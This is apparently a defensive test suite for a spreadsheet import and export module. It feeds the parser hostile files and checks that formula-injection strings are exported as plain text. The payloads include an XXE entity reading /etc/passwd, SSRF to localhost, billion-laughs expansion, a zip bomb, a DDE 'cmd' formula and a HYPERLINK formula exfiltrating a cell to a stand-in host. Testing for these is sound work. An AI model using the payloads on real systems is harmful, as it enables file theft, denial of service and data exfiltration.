"""Files that people bring, made by somebody who means harm; and what they take away."""

import csv
import io
import time
import zipfile
from decimal import Decimal

import openpyxl

from odoo.tests import BaseCase, tagged

from ..clearing_workbook import Column, Fact, Sheet, write_workbook
from ..spreadsheet import (
    ROWS_MAX,
    UNPACKED_MAX,
    TableInvalid,
    plain,
    read_table,
    to_decimal,
    write_csv,
)

SECRET = "/etc/passwd"
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "=1+1;=1+1",
)
SOON_S = 8
"""A file that takes longer is an attack that has worked."""


def honest() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["number", "points"])
    book.active.append(["9980001000000011", 17])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_part(name: str, content: bytes) -> bytes:
    """The honest file with one of its parts put in place of what was there."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(honest())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, content)
    return out.getvalue()


def sheet(rows: str, dimension: str = "A1:B2", head: str = "") -> bytes:
    text = (
        f'<?xml version="1.0"?>{head}<worksheet xmlns="{MAIN}">'
        f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
    )
    return with_part(SHEET, text.encode())


def entities() -> str:
    """Ten of ten of ten … letters: a billion of them from a line of text."""
    doubled = "".join(
        f'<!ENTITY {name} "{f"&{below};" * 10}">'
        for below, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    return f'<!DOCTYPE x [<!ENTITY a "x">{doubled}]>'


CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>{}</t></is></c></row>'
FAR = (
    '<row r="1"><c r="A1"><v>1</v></c></row><row r="{0}"><c r="A{0}"><v>2</v></c></row>'
)
HOSTILE = {
    "a file of this machine": lambda: sheet(
        CELL.format("&e;"),
        head=f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{SECRET}">]>',
    ),
    "a page of another machine": lambda: sheet(
        CELL.format("&e;"),
        head='<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/">]>',
    ),
    "words that multiply": lambda: sheet(CELL.format("&i;"), head=entities()),
    "a zip that unpacks without end": lambda: with_part(
        STRINGS, bytes(UNPACKED_MAX + 1)
    ),
    "more rows than any import": lambda: sheet(FAR.format(1_048_576), "A1:XFD1048576"),
    "a number that is none": lambda: sheet('<row r="1"><c r="A1"><v>nan</v></c></row>'),
    "a day that is none": lambda: sheet(
        '<row r="1"><c r="A1" t="d"><v>soon</v></c></row>'
    ),
    "a text that is nowhere": lambda: sheet(
        '<row r="1"><c r="A1" t="s"><v>99</v></c></row>'
    ),
    "a cell that cannot be": lambda: sheet(
        '<row r="1"><c r="ZZZZZZ1"><v>1</v></c></row>'
    ),
    "a sheet that breaks off": lambda: with_part(SHEET, b"<worksheet><sheetData>"),
    "a file that breaks off": lambda: honest()[:-300],
    "four bytes": lambda: b"PK\x03\x04",
    "noise": lambda: bytes(range(256)) * 100,
    "a CSV with one endless cell": lambda: b'number\n"' + b"9" * 1_000_000,
}


@tagged("post_install", "-at_install")
class TestHostileTables(BaseCase):
    def test_an_honest_table_is_read(self):
        head, row = read_table(honest())
        self.assertEqual(head.cells, ["number", "points"])
        self.assertEqual(row.cells, ["9980001000000011", "17"])

    def test_a_hostile_table_is_refused_soon_and_in_words(self):
        for what, make in HOSTILE.items():
            with self.subTest(what=what):
                content, begun = make(), time.monotonic()
                with self.assertRaises(TableInvalid) as refused:
                    list(read_table(content))
                self.assertLess(time.monotonic() - begun, SOON_S)
                self.assertNotIn("root:", str(refused.exception))

    def test_a_sheet_that_says_it_is_wide_is_read_as_far_as_any_import_goes(self):
        begun = time.monotonic()
        rows = list(read_table(sheet(FAR.format(20_000), "A1:XFD20000")))
        self.assertLess(time.monotonic() - begun, SOON_S)
        self.assertEqual([row.number for row in rows], [1, 20_000])

    def test_no_more_rows_are_read_than_any_import_has(self):
        with self.assertRaises(TableInvalid):
            for row in read_table(b"1\n" * (ROWS_MAX + 1)):
                self.assertLessEqual(row.number, ROWS_MAX)

    def test_a_number_that_would_fill_the_memory_is_none(self):
        for text in ("1e999999999", "-1e999999999", "1e-999999999", "9" * 10_000):
            self.assertIsNone(to_decimal(text), text[:20])
        for text in ("nan", "inf", "-Infinity", "sNaN", "=1", "0x10", "1,2,3"):
            self.assertIsNone(to_decimal(text), text)
        self.assertEqual(to_decimal("1 234,50"), Decimal("1234.50"))

    def test_what_is_written_as_csv_is_text(self):
        raw = write_csv([[formula, "x"] for formula in FORMULAS])
        text = io.StringIO(raw.decode("utf-8-sig"), newline="")
        cells = [cell for row in csv.reader(text) for cell in row]
        self.assertEqual(len(cells), 2 * len(FORMULAS))
        self.assertFalse([cell for cell in cells if plain(cell) != cell])

    def test_what_was_written_is_read_as_it_was(self):
        rows = [
            ["number", "note"],
            *([f"n{n}", text] for n, text in enumerate(FORMULAS)),
        ]
        read = [row.cells for row in read_table(write_csv(rows))]
        self.assertEqual(read, rows)

    def test_what_is_written_as_xlsx_is_text_but_for_our_own_sums(self):
        columns = [Column("=1+1"), Column("Sum", "money", total=True)]
        rows = [(formula, 1.5) for formula in FORMULAS]
        facts = [Fact("@SUM(A1)", "=1+1")]
        raw = write_workbook("=1+1", "Facts", facts, [Sheet("T", columns, rows)], "=2")
        cells = [
            cell
            for page in openpyxl.load_workbook(io.BytesIO(raw)).worksheets
            for row in page.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
        self.assertEqual([cell.value for cell in cells], ["=SUM(B2:B12)"])
